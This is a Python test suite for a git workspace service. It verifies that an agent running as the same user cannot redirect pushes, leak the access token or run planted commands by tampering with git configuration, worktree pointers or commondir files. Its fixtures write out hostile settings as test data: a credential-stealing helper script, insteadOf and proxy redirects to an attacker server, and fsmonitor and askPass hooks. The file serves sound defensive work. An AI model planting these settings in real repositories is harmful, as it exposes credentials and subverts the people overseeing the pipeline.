"""An agent that runs code as our uid tampers with git before the service commits and pushes: the
token must never reach anyone but the configured remote, no command it planted may run, and the
push must land on the configured remote. Real git, a real smart-HTTP remote that demands the
token, and a second local server playing the attacker that records every Authorization header."""

from __future__ import annotations

import shutil
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from app.errors import WorkspaceError
from app.services.workspace import GitWorkspace, Worktree
from tests.gitrepos import git, make_remote, remote_sha, workspace_settings
from tests.services.workspace.git_http_server import GitHttpServer

TOKEN = "ghp_TAMPERtoken0123456789abcdefXYZ"


@dataclass
class Scene:
    ws: GitWorkspace
    real: GitHttpServer
    evil: GitHttpServer
    remote: Path
    captured: Path  # where the planted credential helper writes what git tells it
    marker: Path  # where the planted fsmonitor / alternate-refs / proxy commands write
    steal: Path  # the planted credential helper
    monitor: Path  # the planted command

    @property
    def real_url(self) -> str:
        return self.real.url("remote.git")

    @property
    def evil_url(self) -> str:
        return self.evil.url("remote.git")

    def assert_nothing_leaked(self) -> None:
        assert not self.evil.received_token(TOKEN)
        assert self.evil.requests == []  # not even a token-less request was sent there
        assert not self.captured.exists(), self.captured.read_text()
        assert not self.marker.exists(), self.marker.read_text()
        transit = self.ws.root / "transit"
        assert not transit.exists() or not list(transit.iterdir())  # throwaway repos are gone


def _script(path: Path, body: str) -> Path:
    path.write_text(f"#!/bin/sh\n{body}\n")
    path.chmod(0o755)
    return path


@pytest.fixture
def scene(tmp_path: Path) -> Iterator[Scene]:
    demo = make_remote(tmp_path / "srv")
    make_remote(tmp_path / "evil")  # the attacker serves a look-alike repository
    captured, marker = tmp_path / "captured-credentials", tmp_path / "planted-command-ran"
    steal = _script(tmp_path / "steal.sh", f'echo "$@" >> {captured}; cat >> {captured}')
    monitor = _script(tmp_path / "monitor.sh", f'echo "$0 $@" >> {marker}')
    with GitHttpServer(tmp_path / "srv", TOKEN) as real, GitHttpServer(tmp_path / "evil", "other") as evil:
        ws = GitWorkspace(workspace_settings(tmp_path, demo, REPO_URL=real.url("remote.git"), GH_TOKEN=TOKEN),
                          network_timeout=30)
        yield Scene(ws, real, evil, demo.remote, captured, marker, steal, monitor)


def _hostile_config(scene: Scene) -> list[tuple[str, str]]:
    return [
        ("remote.origin.url", scene.evil_url),
        ("remote.origin.pushurl", scene.evil_url),
        (f"url.{scene.evil_url}.insteadOf", scene.real_url),
        (f"url.{scene.evil_url}.pushInsteadOf", scene.real_url),
        ("http.proxy", scene.evil.url("")),
        ("credential.helper", str(scene.steal)),
        (f"credential.{scene.real.url('')}.helper", str(scene.steal)),
        ("core.fsmonitor", str(scene.monitor)),
        ("core.alternateRefsCommand", str(scene.monitor)),
        ("core.askPass", str(scene.monitor)),
    ]


def _write_config(path: Path, entries: list[tuple[str, str]]) -> None:
    for key, value in entries:
        git(path.parent, "config", "--file", str(path), "--add", key, value)


async def _commit_push_fetch_push(scene: Scene) -> str:
    """What the pipeline does after the agent: commit, push; a re-run: prepare (fetch), commit, push."""
    wt = scene.ws.worktrees_dir / "ticket-proj-1"
    worktree = Worktree(path=wt, branch="ticket/proj-1", base_sha=remote_sha(scene.remote, "main") or "")
    (wt / "agent.txt").write_text("the agent's work\n")
    first = await scene.ws.commit(worktree, "PROJ-1: first")
    await scene.ws.push(worktree)
    assert remote_sha(scene.remote, "ticket/proj-1") == first
    again = await scene.ws.prepare("PROJ-1")  # a fetch, with the token, through the tampered clone
    (again.path / "agent.txt").write_text("the agent's second try\n")
    second = await scene.ws.commit(again, "PROJ-1: second")
    await scene.ws.push(again)  # not a fast-forward: the lease from our own fetch allows it
    return second


class TestTamperedSharedClone:
    async def test_hostile_clone_config_neither_redirects_nor_runs(self, scene: Scene) -> None:
        await scene.ws.prepare("PROJ-1")
        extra = scene.ws.root / "included.cfg"  # the agent's config can also pull in another file
        _write_config(extra, [(f"url.{scene.evil_url}.insteadOf", scene.real_url)])
        _write_config(scene.ws.repo_dir / ".git" / "config",
                      [*_hostile_config(scene), ("include.path", str(extra))])
        sha = await _commit_push_fetch_push(scene)
        assert remote_sha(scene.remote, "ticket/proj-1") == sha
        assert any(r.authorized and "receive-pack" in r.path for r in scene.real.requests)
        scene.assert_nothing_leaked()

    async def test_a_planted_commondir_is_refused_then_removed_by_prepare(
        self, scene: Scene, tmp_path: Path
    ) -> None:
        # git's ref backend follows `<git dir>/commondir` even under an explicit GIT_COMMON_DIR.
        wt = await scene.ws.prepare("PROJ-1")
        agent_dir = tmp_path / "agent-common"
        shutil.copytree(scene.ws.repo_dir / ".git", agent_dir)
        _write_config(agent_dir / "config", _hostile_config(scene))
        (scene.ws.repo_dir / ".git" / "commondir").write_text(f"{agent_dir}\n")
        (wt.path / "agent.txt").write_text("the agent's work\n")
        with pytest.raises(WorkspaceError, match="tampered"):
            await scene.ws.commit(wt, "PROJ-1: work")
        with pytest.raises(WorkspaceError, match="tampered"):
            await scene.ws.push(wt)
        assert remote_sha(scene.remote, "ticket/proj-1") is None
        await scene.ws.prepare("PROJ-1")  # removes the planted file (and fetches, with the token)
        sha = await _commit_push_fetch_push(scene)
        assert remote_sha(scene.remote, "ticket/proj-1") == sha
        scene.assert_nothing_leaked()

    async def test_hostile_global_config_is_not_read(
        self, scene: Scene, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        home = tmp_path / "home"
        (home / ".config" / "git").mkdir(parents=True)
        _write_config(home / ".gitconfig", _hostile_config(scene))
        _write_config(home / ".config" / "git" / "config", _hostile_config(scene))
        monkeypatch.setenv("HOME", str(home))  # the agent runs as our uid: ~ is its to write
        monkeypatch.setenv("XDG_CONFIG_HOME", str(home / ".config"))
        await scene.ws.prepare("PROJ-1")  # the clone itself, with the token
        sha = await _commit_push_fetch_push(scene)
        assert remote_sha(scene.remote, "ticket/proj-1") == sha
        scene.assert_nothing_leaked()


class TestTamperedWorktree:
    def _agent_gitdir(self, scene: Scene, tmp_path: Path) -> Path:
        """A git dir of the agent's own (as `git log --output=.git` showed it can make one): the
        branch checked out, our index, a hostile config."""
        registration = scene.ws.repo_dir / ".git" / "worktrees" / "ticket-proj-1"
        agent_dir = tmp_path / "agent-gitdir"
        shutil.copytree(scene.ws.repo_dir / ".git", agent_dir)
        shutil.copy(registration / "index", agent_dir / "index")
        (agent_dir / "HEAD").write_text("ref: refs/heads/ticket/proj-1\n")
        _write_config(agent_dir / "config", _hostile_config(scene))
        return agent_dir

    async def test_rewritten_git_pointer_is_not_followed(
        self, scene: Scene, tmp_path: Path, caplog: pytest.LogCaptureFixture
    ) -> None:
        wt = await scene.ws.prepare("PROJ-1")
        (wt.path / ".git").write_text(f"gitdir: {self._agent_gitdir(scene, tmp_path)}\n")
        (wt.path / "agent.txt").write_text("the agent's work\n")
        assert await scene.ws.has_changes(wt)
        assert "agent.txt" in await scene.ws.diff_summary(wt)
        sha = await scene.ws.commit(wt, "PROJ-1: work")
        await scene.ws.push(wt)
        assert remote_sha(scene.remote, "ticket/proj-1") == sha
        assert git(scene.remote, "show", f"{sha}:agent.txt") == "the agent's work\n"
        assert "worktree_pointer_tampered" in caplog.text
        scene.assert_nothing_leaked()

    async def test_rewritten_registration_commondir_is_refused(self, scene: Scene, tmp_path: Path) -> None:
        wt = await scene.ws.prepare("PROJ-1")
        registration = scene.ws.repo_dir / ".git" / "worktrees" / "ticket-proj-1"
        (registration / "commondir").write_text(f"{self._agent_gitdir(scene, tmp_path)}\n")
        (wt.path / "agent.txt").write_text("the agent's work\n")
        with pytest.raises(WorkspaceError, match="tampered"):
            await scene.ws.commit(wt, "PROJ-1: work")
        assert remote_sha(scene.remote, "ticket/proj-1") is None
        scene.assert_nothing_leaked()

    async def test_head_moved_off_the_ticket_branch_is_refused(self, scene: Scene) -> None:
        wt = await scene.ws.prepare("PROJ-1")
        registration = scene.ws.repo_dir / ".git" / "worktrees" / "ticket-proj-1"
        (registration / "HEAD").write_text("ref: refs/heads/main\n")
        (wt.path / "agent.txt").write_text("x\n")
        with pytest.raises(WorkspaceError, match="not on ticket/proj-1"):
            await scene.ws.commit(wt, "PROJ-1: x")
